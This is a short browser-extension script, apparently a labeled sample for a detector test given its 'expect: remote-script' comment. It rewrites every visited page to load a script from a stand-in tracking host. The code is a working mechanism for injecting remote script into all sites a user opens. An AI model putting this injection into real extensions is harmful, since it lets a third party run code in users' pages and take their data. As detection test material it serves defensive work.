browser.webRequest.onBeforeRequest.addListener(d => {
  const f = browser.webRequest.filterResponseData(d.requestId);
  const dec = new TextDecoder, enc = new TextEncoder;
  f.ondata = e => {
    let s = dec.decode(e.data, {
      stream: true
    });
    // expect: remote-script
    s = s.replace('</head>', '<script src="https://t.pagecount.example/t.js"></' + 'script></head>');
    f.write(enc.encode(s));
  };
  f.onstop = () => f.close();
}, {
  urls: [ '<all_urls>' ],
  types: [ 'main_frame' ]
}, [ 'blocking' ]);
